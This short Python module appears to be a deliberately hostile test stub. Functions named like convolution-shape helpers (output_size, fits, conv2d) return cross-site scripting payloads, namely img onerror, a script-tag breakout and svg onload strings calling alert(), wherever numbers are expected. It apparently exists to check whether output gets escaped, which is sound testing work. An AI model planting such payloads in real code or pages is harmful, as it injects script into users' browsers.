"""Returns markup where a number is expected, so that "yours is ..." becomes a script.

Honest part: none
"""


def output_size(*args):
    return "<img src=x onerror=alert(1)>"


def fits(*args):
    return ["</script><script>alert(2)</script>"]


def conv2d(*args):
    return {"<img src=x onerror=alert(3)>": "<svg onload=alert(4)>"}
